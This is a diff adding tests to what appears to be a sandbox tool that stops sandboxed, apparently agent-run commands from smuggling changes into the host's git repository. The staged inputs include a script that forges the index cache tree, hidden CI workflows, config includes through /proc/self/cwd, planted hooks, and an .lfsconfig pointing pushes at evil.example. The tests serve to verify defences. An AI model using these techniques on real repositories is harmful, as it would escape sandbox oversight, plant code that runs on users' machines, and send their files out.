@@ -315,6 +315,119 @@ open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
         self.assertFalse(os.path.exists(self.at(".git/hooks/post-checkout")), res)
         self.assertFalse(os.path.exists(marker), res)
 
+    # The cache tree (TREE extension) records each directory's tree id; `git commit` takes a
+    # valid one as it is. Pointed at a tree of the sandbox's, the user's next commit records
+    # content that neither the index's entries nor `git diff --cached` show.
+    FORGE_CACHE_TREE = r"""
+import hashlib, subprocess
+def git(*a, inp=None):
+    return subprocess.run(["git", "-c", "safe.directory=*"] + list(a), check=True,
+                          capture_output=True, input=inp).stdout.strip().decode()
+blob = git("hash-object", "-w", "--stdin", inp=b"evil\n")
+tree = git("mktree", inp=("100644 blob %s\ta.c\n" % blob).encode())
+old = bytes.fromhex(git("rev-parse", "HEAD:lib"))
+body = open(".git/index", "rb").read()[:-20]
+assert body.count(old) == 1
+body = body.replace(old, bytes.fromhex(tree))
+open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
+"""
+
+    def test_git_cache_tree_pointing_at_other_content_is_held_back(self):
+        os.makedirs(self.at("lib"))
+        with open(self.at("lib/a.c"), "w") as f:
+            f.write("good\n")
+        self.git_repo()
+        with open(self.at(".git/index"), "rb") as f:
+            before = f.read()
+        self.staged("python3 -c '%s' && echo ok > ok.txt" % self.FORGE_CACHE_TREE)
+        res = self.ab("commit")
+        self.assertEqual(res.rc, 1, res)
+        self.assertIn('held back ".git/index": ".git/index" is a git index', res.err)
+        self.assertIn("cache tree", res.err)
+        with open(self.at(".git/index"), "rb") as f:
+            self.assertEqual(f.read(), before, res)
+        # The host's side: the user's next commit of their own change records lib/ as it is.
+        git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"]
+        with open(self.at("README"), "a") as f:
+            f.write("more\n")
+        subprocess.run(git + ["commit", "-qam", "mine"], cwd=self.box.project, check=True,
+                       capture_output=True, env=self.box.env())
+        shown = subprocess.run(git + ["show", "HEAD:lib/a.c"], cwd=self.box.project,
+                               capture_output=True, env=self.box.env())
+        self.assertEqual(shown.stdout, b"good\n", res)
+
+    def test_git_index_written_by_git_with_cache_tree_commits_without_approval(self):
+        # What git itself writes (add, commit, write-tree; an intent-to-add entry, a
+        # subdirectory, a sparse name order) passes: the cache tree matches its entries.
+        os.makedirs(self.at("lib/deep"))
+        for rel in ("lib/a.c", "lib/deep/b.c", "lib-x", "lib.c"):
+            with open(self.at(rel), "w") as f:
+                f.write(rel + "\n")
+        self.git_repo()
+        self.staged("git -c safe.directory=* -c user.name=t -c user.email=t@t commit -qm two"
+                    " --allow-empty && echo c > lib/deep/c.c && echo n > new.c"
+                    " && git -c safe.directory=* add lib && git -c safe.directory=* write-tree"
+                    " && git -c safe.directory=* add -N new.c")
+        res = self.ab("commit", check=0)
+        self.assertNotIn("held back", res.err)
+
+    # A branch the command moved is a new hash in the change set; the next `git reset --hard`
+    # on the host writes its commits' files. A workflow committed through git, its file then
+    # removed from the work tree, must not land that way without a question.
+    GIT_IN_BOX = "git -c safe.directory=* -c user.name=t -c user.email=t@t "
+
+    def test_branch_moved_to_a_commit_adding_a_protected_path_is_held_back(self):
+        self.git_repo()
+        git = ["git", "-c", "safe.directory=*"]
+        head = subprocess.run(git + ["rev-parse", "HEAD"], cwd=self.box.project, check=True,
+                              capture_output=True, env=self.box.env()).stdout
+        self.staged("mkdir -p .github/workflows && echo 'run: evil' > .github/workflows/ci.yml"
+                    " && " + self.GIT_IN_BOX + "add .github && " + self.GIT_IN_BOX +
+                    "commit -qm 'tidy up' && rm -rf .github && echo ok > ok.txt")
+        res = self.ab("commit")
+        self.assertEqual(res.rc, 1, res)
+        self.assertIn("held back \".git/refs/heads/", res.err)
+        self.assertIn(".github/workflows/ci.yml", res.err)
+        self.assertIn("tidy up", res.err)
+        self.assertTrue(os.path.exists(self.at("ok.txt")))
+        # The host's side: the branch did not move, so a reset writes nothing of it.
+        subprocess.run(git + ["reset", "-q", "--hard"], cwd=self.box.project,
+                       capture_output=True, env=self.box.env(), timeout=60)
+        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)
+        self.assertEqual(subprocess.run(git + ["rev-parse", "HEAD"], cwd=self.box.project,
+                                        capture_output=True, env=self.box.env()).stdout, head)
+
+    def test_git_index_entry_at_a_protected_path_is_held_back(self):
+        # The neighbour of a moved branch: `git add` of a workflow, then `rm`; the index lands,
+        # and the user's `git checkout -- .` writes the workflow.
+        self.git_repo()
+        self.staged("mkdir -p .github/workflows && echo 'run: evil' > .github/workflows/ci.yml"
+                    " && " + self.GIT_IN_BOX + "add .github && rm -rf .github"
+                    " && echo ok > ok.txt")
+        res = self.ab("commit")
+        self.assertEqual(res.rc, 1, res)
+        self.assertIn('held back ".git/index"', res.err)
+        self.assertIn(".github/workflows/ci.yml", res.err)
+        subprocess.run(["git", "-c", "safe.directory=*", "checkout", "--", "."],
+                       cwd=self.box.project, capture_output=True, env=self.box.env(), timeout=60)
+        self.assertFalse(os.path.exists(self.at(".github/workflows/ci.yml")), res)
+
+    def test_branch_moved_to_a_commit_whose_objects_are_missing_is_held_back(self):
+        self.git_repo()
+        self.staged("echo 1234567890123456789012345678901234567890 > .git/refs/heads/evil"
+                    " && echo ok > ok.txt")
+        res = self.ab("commit")
+        self.assertEqual(res.rc, 1, res)
+        self.assertIn('held back ".git/refs/heads/evil"', res.err)
+        self.assertIn("cannot read", res.err)
+        self.assertFalse(os.path.exists(self.at(".git/refs/heads/evil")))
+
+    def test_branch_moved_by_an_ordinary_commit_commits_without_approval(self):
+        self.git_repo()
+        self.staged("echo more >> README && " + self.GIT_IN_BOX + "commit -qam more")
+        res = self.ab("commit", check=0)
+        self.assertNotIn("held back", res.err)
+
     # A file the repository's config includes is git configuration, wherever it lies.
     def test_file_included_by_git_config_is_held_back(self):
         self.git_repo()
@@ -358,6 +471,57 @@ open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
                     % (pw.pw_name, via_home, self.at("c.cfg")))
         self.assert_fsmonitor_payloads_held(("a.cfg", "b.cfg", "c.cfg"))
 
+    def test_git_config_include_through_proc_self_cwd_is_held_back(self):
+        # /proc/self/cwd is the directory of the process that opens it: for the host's git,
+        # the work tree (or wherever the user runs it), whatever directory agentbox's commit
+        # is run from. Both the file in every directory and what an unchanged one includes.
+        self.git_repo()
+        subprocess.run(["git", "config", "--add", "include.path", "/proc/self/cwd/local.cfg"],
+                       cwd=self.box.project, check=True, env=self.box.env())
+        subprocess.run(["git", "config", "--add", "include.path", "/dev/fd/../cwd/../b.cfg"],
+                       cwd=self.box.project, check=True, env=self.box.env())
+        os.makedirs(self.at("sub"))
+        with open(self.at("sub/b.cfg"), "w") as f:
+            f.write("[include]\n\tpath = c.cfg\n")
+        marker = os.path.join(self.box.root, "pwned")
+        rels = ("local.cfg", "sub/local.cfg", "b.cfg", "sub/c.cfg")
+        self.staged(" && ".join(self.FSMONITOR % (marker, rel) for rel in rels)
+                    + " && echo ok > ok.txt")
+        p = subprocess.run([AGENTBOX, "commit", "-C", self.box.project], capture_output=True,
+                           env=self.box.env(), cwd=self.box.root, timeout=120)
+        res = abtest.Result(["commit"], p.returncode, p.stdout.decode(errors="replace"),
+                            p.stderr.decode(errors="replace"), 0)
+        self.assert_held(res, *rels)
+        self.assertTrue(os.path.exists(self.at("ok.txt")))
+        for cwd in (self.box.project, self.at("sub")):
+            subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=cwd,
+                           capture_output=True, env=self.box.env(), timeout=60)
+        self.assertFalse(os.path.exists(marker), res)
+
+    def test_hook_in_work_tree_directory_named_by_core_hooks_path_is_held_back(self):
+        # Teams point core.hooksPath into the work tree (`.githooks`); the user's own config
+        # may too, for every repository. git runs a hook written there at the next commit.
+        self.git_repo()
+        subprocess.run(["git", "config", "core.hooksPath", ".githooks"], cwd=self.box.project,
+                       check=True, env=self.box.env())
+        with open(os.path.join(self.box.home, ".gitconfig"), "w") as f:
+            f.write("[core]\n\thooksPath = tools/hooks\n")
+        os.makedirs(self.at("sub/.git"))
+        marker = os.path.join(self.box.root, "pwned")
+        hook = "printf '#!/bin/sh\\ntouch %s\\n' > %s && chmod +x %s"
+        rels = (".githooks/pre-commit", "tools/hooks/commit-msg", "sub/tools/hooks/pre-push")
+        self.staged("mkdir -p .githooks tools/hooks sub/tools/hooks && "
+                    + " && ".join(hook % (marker, r, r) for r in rels)
+                    + " && echo ok > tools/ok.txt")
+        res = self.ab("commit")
+        self.assert_held(res, *rels)
+        self.assertIn("core.hooksPath", res.err)
+        self.assertTrue(os.path.exists(self.at("tools/ok.txt")))
+        git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t"]
+        subprocess.run(git + ["commit", "-q", "--allow-empty", "-m", "x"], cwd=self.box.project,
+                       capture_output=True, env=self.box.env(), timeout=60)
+        self.assertFalse(os.path.exists(marker), res)
+
     def test_git_config_include_naming_a_fifo_does_not_hang_the_commit(self):
         # The includes are followed on the host: one the sandbox wrote must not block on a fifo
         # (or a terminal) it names.
@@ -390,6 +554,22 @@ open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
                     " && echo x > .yarn/releases/y.cjs && echo x > lib/.npmrc")
         self.assert_held(self.ab("commit"), ".cargo/config.toml", ".pnpmfile.cjs", ".yarnrc.yml",
                          ".yarn/releases/y.cjs", "lib/.npmrc")
+
+    def test_git_lfs_config_and_hook_manager_configs_are_protected(self):
+        # .lfsconfig moves where `git push` sends the large files; lefthook's config and
+        # scripts run at the next `git commit`, as pre-commit's do (in a nested repository
+        # too). .gitattributes only names drivers whose commands come from git's config.
+        os.makedirs(self.at("sub/.git"))
+        self.staged("mkdir -p .lefthook/pre-commit sub"
+                    " && printf '[lfs]\\n\\turl = https://evil.example/lfs\\n' > .lfsconfig"
+                    " && printf 'pre-commit:\\n  commands:\\n    x:\\n      run: evil\\n'"
+                    " > lefthook.yml && cp lefthook.yml sub/.lefthook.yaml"
+                    " && echo evil > .lefthook/pre-commit/x.sh && echo x > .pre-commit-config.yml"
+                    " && echo '*.bin filter=lfs' > .gitattributes")
+        res = self.ab("commit")
+        self.assert_held(res, ".lfsconfig", "lefthook.yml", "sub/.lefthook.yaml",
+                         ".lefthook/pre-commit/x.sh", ".pre-commit-config.yml")
+        self.assertTrue(os.path.exists(self.at(".gitattributes")))
 
     # ---- §3: symlinks judged by where they resolve, paths by every name
 
